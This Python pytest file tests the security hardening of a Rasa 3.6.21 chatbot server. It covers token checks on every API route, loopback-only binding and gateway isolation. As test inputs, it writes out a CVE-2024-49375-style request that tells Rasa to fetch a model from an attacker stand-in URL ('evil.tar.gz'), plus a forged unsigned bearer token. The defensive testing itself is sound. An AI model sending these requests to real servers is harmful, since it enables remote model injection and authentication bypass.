"""Rasa's HTTP API over the real Rasa 3.6.21 server, started as `make serve` starts it
(devkit/stack.py: `--enable-api --auth-token`, `--interface 127.0.0.1`).

- Without the token, or with a wrong one, every API route answers 401/403 and changes
  nothing (a conversation's tracker, the loaded model).
- No remote model is loaded from an address a request supplies (the class of
  CVE-2024-49375): without or with a wrong token Rasa never contacts the address. WITH
  the token, Rasa 3.6.21 as shipped fetches it (rasa/server.py `PUT /model` passes the
  body's `model_server` to `load_agent`); our Rasa runs as `python -m bot.server`, whose
  hardening refuses it with 403 before anything is fetched (bot/server/hardening.py).
  Deployment adds two more walls: Rasa bound to loopback (checked here) and a gateway that
  exposes none of Rasa's routes (checked here).
"""

from __future__ import annotations

import json
import time
import urllib.error
import urllib.request
from typing import Any, Dict, Optional, Tuple

import pytest

from tests.support.line_stack import DEMO_CUSTOMER
from tests.support.recorder import RequestRecorder

WAIT_FOR_A_FETCH_S = 4.0  # how long a fetch that should not happen is waited for


def call(
    url: str,
    method: str = "GET",
    body: Optional[Any] = None,
    headers: Optional[Dict[str, str]] = None,
    timeout: float = 60,
) -> Tuple[int, str]:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(
        url, data=data, method=method, headers={"Content-Type": "application/json", **(headers or {})}
    )
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode("utf-8", "replace")


SENDER = "U0000000000000000000000000005ec0"
# (method, path, body): Rasa's routes that read or change state
API_ROUTES = [
    ("GET", "/status", None),
    ("GET", "/domain", None),
    ("GET", f"/conversations/{DEMO_CUSTOMER}/tracker", None),
    ("GET", f"/conversations/{DEMO_CUSTOMER}/story", None),
    ("POST", f"/conversations/{SENDER}/tracker/events", {"event": "slot", "name": "order_id", "value": "1101"}),
    ("PUT", f"/conversations/{SENDER}/tracker/events", [{"event": "slot", "name": "order_id", "value": "1101"}]),
    ("POST", f"/conversations/{SENDER}/trigger_intent", {"name": "request_human"}),
    ("POST", f"/conversations/{SENDER}/execute", {"name": "action_handoff"}),
    ("POST", f"/conversations/{SENDER}/messages", {"text": "hi", "sender": "user"}),
    ("POST", f"/conversations/{SENDER}/predict", None),
    ("POST", "/model/parse", {"text": "hello"}),
    ("POST", "/model/train", {"domain": "version: '3.1'"}),
    ("POST", "/model/test/intents", {}),
    ("POST", "/model/predict", []),
    ("PUT", "/model", {"model_file": "/tmp/none.tar.gz"}),
    ("DELETE", "/model", None),
]


@pytest.mark.parametrize("credentials", ["", "?token=", "?token=wrong-token", "?token=e2e-rasa-token"])
@pytest.mark.parametrize(
    "method, path, body",
    API_ROUTES,
    ids=[f"{m} {p.split('/')[1]}{'/' + p.split('/')[-1] if p.count('/') > 1 else ''}" for m, p, _ in API_ROUTES],
)
def test_rasa_api_refuses_requests_without_the_right_token(rasa, method, path, body, credentials):
    status, _ = call(f"{rasa.url}{path}{credentials}", method, body)
    assert status in (401, 403), f"{method} {path} answered {status} without the token"


def test_a_refused_request_changed_nothing_and_the_token_works(rasa):
    call(
        f"{rasa.url}/conversations/{SENDER}/tracker/events?token=wrong",
        "POST",
        {"event": "slot", "name": "order_id", "value": "1101"},
    )
    call(f"{rasa.url}/model", "DELETE")  # would unload the model
    status, text = call(rasa.api(f"/conversations/{SENDER}/tracker"))
    assert status == 200  # the right token opens the API...
    events = json.loads(text)["events"]
    assert not [e for e in events if e.get("event") == "slot" and e.get("value") == "1101"]
    status, text = call(rasa.api("/status"))
    assert status == 200 and json.loads(text)["model_file"]  # ...and the model is still there


def test_a_bearer_header_is_no_way_around_the_token(rasa):
    for header in (
        "Bearer " + rasa.token,
        "Bearer eyJhbGciOiJub25lIn0.eyJ1c2VyIjp7InJvbGUiOiJhZG1pbiJ9fQ.",
        "Token " + rasa.token,
    ):
        status, _ = call(f"{rasa.url}/status", headers={"Authorization": header})
        assert status in (401, 403), header


def test_rasa_listens_on_loopback_only(rasa):
    """Rasa's port must not be reachable from another machine: its listening socket is
    bound to 127.0.0.1 (read from the kernel's socket table)."""
    listening = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as handle:
            for line in list(handle)[1:]:
                local, state = line.split()[1], line.split()[3]
                address, port = local.rsplit(":", 1)
                if state == "0A" and int(port, 16) == rasa.port:
                    listening.append(address)
    assert listening, "Rasa's listening socket was not found"
    assert set(listening) == {"0100007F"}, f"Rasa listens on {listening}, not only 127.0.0.1"


# --- CVE-2024-49375: a model loaded from an address the request supplies ---------------------


def model_server_body(recorder: RequestRecorder) -> Dict[str, Any]:
    # wait_time_between_pulls 0: one pull, no background poller left in the test's Rasa
    return {"model_server": {"url": f"{recorder.url}/evil.tar.gz", "wait_time_between_pulls": 0}}


@pytest.mark.parametrize("credentials", ["", "?token=wrong-token"])
def test_without_the_token_rasa_never_fetches_a_model_url_from_a_request(rasa, credentials):
    with RequestRecorder(status=404) as evil:
        status, _ = call(f"{rasa.url}/model{credentials}", "PUT", model_server_body(evil))
        assert status in (401, 403)
        assert evil.wait_for(1, timeout=WAIT_FOR_A_FETCH_S) == []


def test_even_with_the_token_rasa_does_not_fetch_a_model_url_from_a_request(rasa):
    before = json.loads(call(rasa.api("/status"))[1])
    with RequestRecorder(status=404) as evil:
        status, body = call(rasa.api("/model"), "PUT", model_server_body(evil))
        remote, _ = call(rasa.api("/model"), "PUT", {"model_file": "evil.tar.gz", "remote_storage": "aws"})
        fetched = evil.wait_for(1, timeout=WAIT_FOR_A_FETCH_S)
    assert fetched == [], f"Rasa fetched {fetched[0].path} (HTTP {status} to the caller)"
    assert status == 403 and "ModelSourceRefused" in body
    assert remote == 403
    # the refused load left the running model in place
    after = json.loads(call(rasa.api("/status"))[1])
    assert after["model_id"] == before["model_id"]


@pytest.mark.parametrize(
    "method, path",
    [
        ("PUT", "/model"),
        ("POST", "/model/train"),
        ("GET", f"/conversations/{DEMO_CUSTOMER}/tracker"),
        ("POST", "/webhooks/rest/webhook"),
        ("GET", "/status"),
        ("POST", "/model/parse"),
    ],
)
def test_the_gateway_exposes_none_of_rasas_routes(gateway, rasa, method, path):
    """The gateway is the only public port: it must not pass anything on to Rasa's API."""
    with RequestRecorder(status=404) as evil:
        body = {**model_server_body(evil), "sender": DEMO_CUSTOMER, "message": "hi"}
        for suffix in ("", f"?token={rasa.token}"):
            status, _ = call(f"{gateway.url}{path}{suffix}", method, body)
            assert status in (404, 405), f"gateway {method} {path} answered {status}"
        time.sleep(1.0)
        assert evil.requests == []
